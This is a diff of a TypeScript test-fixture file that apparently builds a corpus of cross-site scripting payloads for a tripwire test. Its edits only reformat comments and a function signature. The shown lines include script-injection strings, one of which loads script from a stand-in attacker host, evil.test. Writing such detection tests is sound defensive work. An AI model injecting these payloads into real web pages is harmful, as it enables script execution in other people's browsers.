@@ -1,7 +1,13 @@
-/** What somebody might write to run something in other people's browsers, or to break a page; `shown` where it is kept otherwise than typed. */
+/**
+ * Text that tries to run code in other people's browsers or to break a page; `shown`: where it is stored otherwise than
+ * typed.
+ */
 export type Payload = { readonly text: string; readonly shown?: string };
 
-/** Every attack calls `pwn()`, which the tripwire defines, or asks a host named evil.test, and carries the word pwn or evil to be found by. */
+/**
+ * Every attack calls `pwn()`, which the tripwire defines, or asks a host named evil.test, and carries the word pwn or
+ * evil to be found by.
+ */
 const tags = [
   '<script>pwn()</script>',
   '<SCRIPT SRC=//evil.test/p.js></SCRIPT>',
@@ -125,8 +131,15 @@ export const notText = ['pwn\0', 'pwn \ud83d'];
 /** Words in one piece, as many as fit, and what must be read of them. */
 export type Pack = { readonly text: string; readonly shown: readonly string[] };
 
-/** The corpus for a field of at most `most` characters, in as few pieces as can be; the last one is a word without an end. Leaves out what is too long for it. */
-export function packs(most: number, between: ' ' | '\n' = ' ', isFit: (text: string) => boolean = () => true): readonly Pack[] {
+/**
+ * The corpus for a field of at most `most` characters, in as few pieces as can be; the last one is a word without an
+ * end. Leaves out what is too long for it.
+ */
+export function packs(
+  most: number,
+  between: ' ' | '\n' = ' ',
+  isFit: (text: string) => boolean = () => true,
+): readonly Pack[] {
   const made: { text: string; shown: string[] }[] = [];
   for (const { text, shown = text } of payloads.filter(({ text: one }) => one.length <= most && isFit(one))) {
     const last = made.at(-1);
